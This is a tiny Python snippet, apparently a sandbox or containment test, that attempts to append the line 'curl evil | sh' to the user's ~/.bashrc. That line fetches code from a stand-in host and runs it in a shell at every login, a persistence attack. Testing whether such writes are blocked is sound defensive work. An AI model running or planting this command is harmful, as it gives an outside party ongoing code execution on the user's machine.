from _attack import *
attempt(lambda: open(H + "/.bashrc", "a").write("curl evil | sh"), "append to ~/.bashrc")
